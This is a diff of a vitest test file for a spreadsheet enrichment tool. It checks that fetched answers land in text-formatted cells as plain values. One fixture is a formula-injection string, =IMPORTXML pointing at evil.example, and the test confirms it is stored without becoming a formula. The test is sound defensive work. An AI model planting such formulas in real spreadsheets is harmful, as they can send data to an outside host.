@@ -3,11 +3,13 @@ import { describe, expect, it } from 'vitest';
 import type { Field } from '../../../src/enrichment/definition';
 import type { Validation } from '../../doubles/google/model/cell';
 import { rectOf } from '../../doubles/google/model/geometry';
+import { worldKnowledge } from '../../doubles/linkup/knowledge/countries';
+import { withTopics } from '../../doubles/linkup/knowledge/knowledge';
 import { truth } from '../../world/countries';
 import { CAPITAL_DRAFT } from '../../world/drafts';
-import { halfFilled } from '../../world/half-filled';
+import { HALF_FILLED, halfFilled } from '../../world/half-filled';
 import { statusOf } from '../../world/says';
-import { ask, enrich, follow, revisionOf, saved, withFacts } from '../../world/sidebar';
+import { ask, enrich, follow, revisionOf, saved, toFill, withFacts } from '../../world/sidebar';
 import { World, type WorldOptions } from '../../world/world';
 
 /** A dropdown that takes nothing but its choices. */
@@ -62,6 +64,36 @@ describe('columns of ours', () => {
     expect(world.column(statusOf('Facts'))).toEqual(['Done', 'Done']);
     expect(world.sheet.peek(2, 2)).toMatchObject({ value: 'Lima', format: '' });
     expect(world.sheet.peek(2, 3)).toMatchObject({ value: 1285216, format: '' });
+  });
+});
+
+describe('a person’s own columns of format @', () => {
+  const HOSTILE = '=IMPORTXML("https://evil.example/")';
+  const SOURCE = { name: 'A page', url: 'https://page.example', content: 'text' };
+  const facts = [
+    { key: 'capital', value: HOSTILE, sentence: 'It is not' },
+    { key: 'currency', value: '007', sentence: 'It has one' },
+  ];
+  const knowledge = withTopics(worldKnowledge(), [{ name: 'Oz', facts, sources: [SOURCE], images: [] }]);
+
+  it.each([
+    true,
+    false,
+  ])('show answers as they are, whether the apostrophe of a text is taken off there: %s', async (isOff) => {
+    const table = [...HALF_FILLED, ['Oz', '', '', 'e']];
+    const google = { plainTextDropsApostrophe: isOff, plainTextKeepsEquals: false };
+    const { world, id } = await halfFilled({ google, knowledge }, {}, table);
+    for (let row = 2; row <= 6; row++) for (const at of [2, 3]) world.sheet.cell(row, at).format = '@';
+    enrich(world, id);
+    follow(world, id);
+    expect(world.column('Capital')).toEqual(['Lima', 'My capital', 'Bamako!', 'Tokyo', HOSTILE]);
+    expect(world.column('Money').slice(3)).toEqual(['Yen!', '007']);
+    expect(world.sheet.peek(6, 2)).not.toHaveProperty('formula');
+    // Theirs is what was typed, and nothing else.
+    expect(ask(world, 'offer', toFill(world, id)).skipped).toEqual([
+      { reason: 'answered already', rows: 4 },
+      { reason: 'filled by hand', rows: 1 },
+    ]);
   });
 });
 
